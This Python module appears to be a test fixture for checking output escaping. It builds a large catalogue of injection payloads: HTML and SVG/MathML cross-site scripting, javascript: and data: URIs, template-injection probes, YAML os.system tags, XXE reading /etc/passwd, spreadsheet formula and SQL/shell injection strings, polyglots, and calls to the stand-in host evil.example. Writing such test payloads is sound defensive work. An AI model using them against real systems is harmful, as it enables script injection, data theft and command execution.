r"""Texts that would do harm where somebody forgot to escape them, by the language they break.

Each would show that it got out: by a script (`alert(1)`, `hurt=1`), by a request to another host
(`evil.example`), by an element or an attribute, or by showing otherwise than typed. Families are
made of parts, so that every way out meets every thing to do outside.
"""

# ruff: noqa: E501, Q003 - a payload stands on one line, and has the quotes that it needs

from itertools import product

_RUN = "hurt=1"
_FOREIGN = "//evil.example/x"
_CLOSERS = (
    "</title>", "</textarea>", "</style>", "</script>", "</template>", "</noscript>", "</pre>",
    "</code></pre>", "</select>", "</option>", "</a>", "</p></div></article>", "</svg>", "</math>",
    "</body></html>", "-->", "--!>", "]]>", "?>", "%>", '">', "'>", '"/>', "`>", "/>", "</xmp>",
    "</iframe>", "</button></form>", "</h1>", "</li></ul>", "</dd></dl>", "</summary></details>",
)  # fmt: skip
_DEEDS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=hurt=1>",
    f"<link rel=stylesheet href={_FOREIGN}>",
)
_ELEMENTS = (
    "<script src=//evil.example/x></script>", "<ScRiPt>hurt=1</sCrIpT >",
    "<script\n>hurt=1</script>", "<script type=module>hurt=1</script>",
    "<script/src=data:,hurt=1></script>", "<scr<script>ipt>", "<img src=//evil.example/x>",
    "<img/src=x/onerror=hurt=1>", "<img src=x:x onerror=hurt=1//", "<image src=x onerror=hurt=1>",
    "<img srcset='//evil.example/x 1x'>", "<iframe srcdoc='<script>'>",
    "<iframe src=javascript:alert(1)>", "<object data=//evil.example/x>",
    "<embed src=//evil.example>", "<video src=x onerror=hurt=1>", "<video poster=//evil.example/x>",
    "<audio src onerror=hurt=1>", "<source srcset=//evil.example/x>", "<body onload=hurt=1>",
    "<body background=//evil.example/x>", "<frameset onload=hurt=1>",
    "<details open ontoggle=hurt=1>", "<input autofocus onfocus=hurt=1>",
    "<select autofocus onfocus=hurt=1>", "<textarea autofocus onfocus=hurt=1>",
    "<marquee onstart=hurt=1>", "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import'//evil.example'</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;//evil.example'>", "<form action=//evil.example><button>",
    "<button formaction=javascript:alert(1)>x", "<isindex>",
    "<link rel=prefetch href=//evil.example/x>", "<link rel=import href=//evil.example/x>",
    "<table background=//evil.example/x>", "<a ping=//evil.example/x href=#>x</a>", "<plaintext>",
    "<xmp>", "<dialog open>x</dialog>", "<template><img></template>", "<noscript><img></noscript>",
    "<x onclick=1>", "<a href=javascript:alert(1)>x</a>", "<custom-element is=x>", "<b>bold</b>",
    "<br>", "<hr/>", "<p>", "</p>", "<!DOCTYPE html>", "<html manifest=x>", "<head>",
    "< script>alert(1)</script>", "<script", "<", ">", "</", "<!--", "<!-->",
    "<!--><img src=x onerror=hurt=1>-->", "<![CDATA[<img src=x>]]>", "<?php hurt ?>", "<%= hurt %>",
)  # fmt: skip
_NAMESPACES = (
    "<svg><script>hurt=1</script>", "<svg><style><img src=x onerror=hurt=1>",
    "<svg><a xlink:href=javascript:alert(1)>", "<svg><animate onbegin=hurt=1 attributeName=x>",
    "<svg><use href=//evil.example/x#y>", "<svg/onload=hurt=1>",
    "<svg><foreignObject><iframe src=x>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=hurt=1>'>",
    "<math><mi//xlink:href='data:x,<script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hurt=1>",
    "<math><annotation-xml encoding=text/html><img>", "<math href=javascript:alert(1)>x</math>",
    "<svg><desc><noscript></desc><img src=x>", "<svg><title><img src=x>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hurt=1>",
    "<noscript><p title='</noscript><img src=x onerror=hurt=1>'>",
    "<select><style></select><img src onerror=hurt=1>",
    "<table><td><svg><desc><td><img src=x onerror=hurt=1>",
    "<listing>&lt;img src=x onerror=hurt=1&gt;</listing>",
    "<img title='--><img src=x onerror=hurt=1>'>", "<a title='</a><img src=x onerror=hurt=1>'>",
    "<textarea><img title='</textarea><img src=x onerror=hurt=1>'>",
    "<!--<img title='--><img src onerror=hurt=1>'>", "<svg><![CDATA[><img src=x onerror=hurt=1>]]>",
    "<template><s><template><s><img src=x onerror=hurt=1>x</s>",
)  # fmt: skip
_QUOTES = ('"', "'", "`", '\\"', "\\'", '""', "''", "&quot;", "&#39;", "\\", "\\\\", '"\\')
_ATTRIBUTES = (
    " onmouseover=hurt=1 x=",
    " autofocus onfocus=hurt=1 tabindex=1 x=",
    " style=background:url(//evil.example/x) x=",
    ";hurt=1;//",
    "+alert(1)+",
)
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:hurt=1", "javascript://x%0Ahurt=1", "javascript:/*--></title>*/hurt=1",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hurt=1>", "vbscript:msgbox(1)", "view-source:x",
    "file:///etc/passwd", "blob:x", "feed:javascript:alert(1)", "//evil.example/x",
    "\\\\evil.example\\x", "https://evil.example/x", "http://evil.example@x/", "www.evil.example",
    "mailto:a@evil.example?subject=x", "javascript\\:alert(1)", "%6Aavascript:alert(1)",
)  # fmt: skip
_SCHEME_PLACES = ("{}", "[x]({})", "![x]({})", "<{}>", "[x]: {}", "[x](<{}>)", "<a href='{}'>x</a>")
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;",
    "&#60;img src=x onerror=hurt=1&#62;", "&#x3c;b&#x3e;", "&LT;b&GT;", "&lt", "&amp", "&", "&&",
    "&#", "&#x", "&#0;", "&#0;x", "&#xD800;", "&#x110000;", "&#9999999999;", "&nbsp;x", "&shy;",
    "&NewLine;", "&Tab;", "&notin;", "&not", "&copy=1", "&ZeroWidthSpace;", "&zwnj;", "&bne;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cb%253E", "%00", "%0d%0aX: y", "%c0%bcscript%c0%be",
    "%", "%zz", "+", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\074script\\076", "\\u{3c}b",
    "\\n", "\\0", "\\", "\\\\", "\\<b>", "＜script＞alert(1)＜/script＞", "‹script›",
    "<ſcript>alert(1)</ſcript>", "<İmg>", "ﬁ ﬀ ﬃ", "K Å Ω", "¼script¾", "+ADw-script+AD4-alert(1)",
    "\u037e \u02bc \u2024 \uff07 \uff02 \uff1c", "<b\u00a0onclick=hurt=1>", "Ünïcödé ñ ß ẞ ı İ ŉ ǰ",
    "e\u0301\u0301\u0301 Z\u0351\u036b\u0343", "字 العربية עברית ไทย हिन्दी",
    "🤖👩‍👩‍👧‍👦🏴🇪🇺 ✂️ \U0001d4d0", "\ufffd",
    "\u3000wide\u3000", "\u034f joiner", "a\u200db\u200cc",
)  # fmt: skip
_TEMPLATES = (
    "{{ config }}", "{{ 7*7 }}", "{{7*7}}", "{% include 'x' %}", "{% raw %}", "{%- endraw -%}",
    "{# gone #}", "{{", "}}", "{{ ''.__class__.__mro__ }}", "{{ page.meta }}", "${7*7}",
    "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "[[7*7]", "{{constructor.constructor('hurt=1')()}}",
    "{0}", "{}", "{0.__class__}", "%s %d %n", "%(name)s", "$title $$ ${x}", "@{7*7}", "~{x}",
    "{php}x{/php}", "<#assign x=1>", "{{{x}}}", "{%", "%}", "{#", "#}", "$& $1 $` $' $<x>",
    "\\1 \\g<0>", "__proto__", "constructor", "toString", "hasOwnProperty", "__init__", "undefined",
    "null", "NaN", "true", "0", "-0",
)  # fmt: skip
_MARKDOWN = (
    "[link](x)", "![image](//evil.example/x)", "[ref][x]", "[x]: //evil.example/x 'title'",
    "<https://evil.example>", "<a@evil.example>", "https://evil.example/x", "*emphasis*",
    "**strong**", "***both***", "_under_", "__double__", "~~struck~~", "==marked==", "^^inserted^^",
    "H~2~O", "x^2^", "`code`", "``co`de``", "```", "~~~", "``` {.x onclick=hurt=1}", "# heading",
    "###### deep", "heading ===", "===", "heading ---", "---", "***", "___", "- - -", "* * *",
    "- item", "* item", "+ item", "1. one", "1) one", "1986. A year", "> quote", ">", ">>> x",
    "| a | b |", "| --- | --- |", "a | b", "|", "term : x", ": definition", "[^1]", "[^1]: note",
    "*[HTML]: abbreviation", "{: .class onclick=hurt=1 }", "{: #id }", "{.x}", "{#id}",
    "{ .annotate }", "(1)", "!!! note", "??? note", '!!! danger "x"', "=== tab", '=== "tab"',
    "--8<-- 'x'", ";--8<--", "--8<--", ":smile:", ":material-x:", ":fontawesome-brands-x:{ .y }",
    "[TOC]", "\\[TOC\\]", "[ ] task", "- [x] task", "++ctrl+x++", "$x^2$", "$$x$$", "\\(x\\)",
    "\\begin{x}", "\\*escaped\\*", "trailing \\", "    indented code", "<div markdown=1>*x*</div>",
    "<p markdown>*x*</p>", "::: module", "@mention #12 GH-1",
    "abc123def4567890abc123def4567890abc12345", "[x]()", "[]()", "![]()",
    "[x](y 'z\" onclick=hurt=1')", "[x](y\" onclick=\"hurt=1)", "![x\" onerror=\"hurt=1](y)",
    "[*x](y*)", "[x]](y)", "[a](<b)c>)", "- - - - - x", "> > > > x", "....", "-- --- ...",
    "(c) (tm)", "\"smart\" 'quotes'", "'tis 'n'", "[[", "]]", "]](x)", "![[x]",
)  # fmt: skip
_YAML = (
    "key: value", "- item", "? complex", "&anchor x", "*alias",
    "!!python/object/apply:os.system ['x']", "!tag x", "| block", "> folded", ">-", "|+",
    "# comment", "x # comment", "%YAML 1.2", "---", "...", "--- !!map", "{a: b}", "[a, b]", "{",
    "[", "}", "]", "'", '"', "'quoted'", '"quoted"', "it's", 'say "x', "yes", "no", "on", "~",
    "null", "Null", "1", "1e3", "0x1F", "0o17", "1_000", "12:30:45", "2026-01-31", ".inf", ".nan",
    "=", "<<", "<<: *x", "@at", "`tick", "x: ", ": x", ",", "x,y", "a: 'b", "key: |", "json_ld: {}",
    "hide: [navigation]", "template: x.html", "a: &x [*x]", "title: x --- y",
)  # fmt: skip
_DATA = (
    '"}]}</script><script>alert(1)</script>', '\\"}', '","x":"', '"],"y":["', "</ScRiPt >",
    "<!--<script>", "/**/", "//", "*/hurt=1/*", '{"@context":"x"}', '{"$ref":"x"}', "//]]>",
    "<![CDATA[", "]]]]><![CDATA[>", "]]&gt;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&xxe;",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>", "<?xml version='1.0'?>",
    "<?xml-stylesheet href='//evil.example'?>", "xmlns:x='y'", "=1+1", "+1+1", "-1+1", "@SUM(1)",
    "=cmd|'/c calc'!A0", '=HYPERLINK("//evil.example")', "+HYPERLINK(1)", "-2+3+cmd|' /C x'!A0",
    "@import 'x'", "=IMPORTXML(A1)", "|=1+1", "'=1+1", '"=1+1"', "=1;2", ";=1", ",=1", "%0A=1+1",
    "a,b", 'a"b', 'a","b', '"', "'--", "'; DROP TABLE papers; --", "1 OR 1=1", "x' UNION SELECT 1",
    "$(touch x)", "`touch x`", "; rm -rf x", "| cat x", "&& x", "../../x", "\\input{/etc/passwd}",
    "\\write18{x}", "\\def\\x{}", "\\href{javascript:x}{y}", "\\catcode`\\%=12", "{unclosed",
    "closed}", "}{", "{{double}}", "100%", "50% # of & $5_x^2~y\\z", "\\%", "\\&", "a--b---c",
    "``quoted''", "?`!`", "\\'e \\o \\ss", "@article{x,", "@string{x=1}", "@comment{x}",
    "@preamble{x}", "title = {x},", "and and and", "A and B", "others", "and others",
    "x, y, z, Jr.", "TY  - JOUR", "ER  -", "ER  - x TY  - JOUR", "AU  - x", "A1 - x", "%0 Journal",
    "%A x", "Subject: x", "Bcc: a@evil.example", ".", "..", "From x", "--boundary", "=?utf-8?q?x?=",
    "=3Cb=3E", "BEGIN:VCARD", "begin 644 x", "User-agent: *", "Disallow: /",
)  # fmt: skip
_POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(1)//>",
    "\">><marquee><img src=x onerror=confirm(1)></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>",
    "'\">><script>alert(1)</script><!--`-->*/}{%7*7%}{{7*7}}${7*7}]]>",
    "%22%3E%3Cimg src=x onerror=hurt=1%3E [a](javascript:hurt=1) {: onclick=hurt=1 } --- | - # > `",
    "';alert(String.fromCharCode(88))//\\';alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "--></style></script><svg onload='/*\"/**/hurt=1//'>",
)  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    "ways out of elements": tuple(a + b for a, b in product(_CLOSERS, _DEEDS)),
    "ways out of attributes": tuple(a + b for a, b in product(_QUOTES, _ATTRIBUTES)),
    "elements": _ELEMENTS,
    "namespaces and mutations": _NAMESPACES,
    "addresses": tuple(p.format(s) for s, p in product(_SCHEMES, _SCHEME_PLACES)),
    "entities and encodings": _ENTITIES,
    "template languages": _TEMPLATES,
    "Markdown": _MARKDOWN,
    "YAML": _YAML,
    "data formats": _DATA,
    "polyglots": _POLYGLOTS,
}
"""Texts by what they break."""

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(" ".join(text.split()) for texts in FAMILIES.values() for text in texts)
)
"""Every text once, on one line, as a catalogue keeps it."""

UNSEEN: tuple[str, ...] = tuple(
    f"safe{character}txet"
    for character in "\x00\x01\x02\x03\x08\x1b\x7f\x85\x9f\u200b\u200e\u200f\u202a\u202b\u202d\u202e\u2028\u2029\u2060"
    "\u2066\u2067\u2069\ufeff\ufff9\ufffb\xad\u115f\u2800\u3164\U000e0041\U000e0131"
)
"""Texts with one of the characters that nobody sees, and that turn what stands around them."""

LONG: tuple[str, ...] = (
    "<" * 20_000,
    "&lt;" * 5_000,
    "[" * 20_000,
    "`" * 20_001,
    "*_" * 10_000,
    "<b>" * 7_000,
    "![](" * 5_000,
    "a" * 30_000,
    "{{" * 10_000,
    "a !" * 7_000,
    "\\" * 20_001,
    "\"'" * 10_000,
    "!" * 30_000 + "a",
    "字" * 20_000,
)
"""Texts whose length alone is the attack."""


_LETTERS = str.maketrans("0123456789", "abcdefghij")


def mark(number: int) -> str:
    """Return what tells a payload in a page: three letters, since a number would be checked."""
    return f"{number % len(PAYLOADS):03}".translate(_LETTERS)


def end(number: int) -> str:
    """Return a payload with a mark glued to its end, by which a page is searched for it."""
    return f"{PAYLOADS[number % len(PAYLOADS)]}q{mark(number)}z"


def begin(number: int) -> str:
    """Return a payload with a mark glued to its beginning: what ends a payload stays at the end."""
    return f"y{mark(number)}k{PAYLOADS[number % len(PAYLOADS)]}"
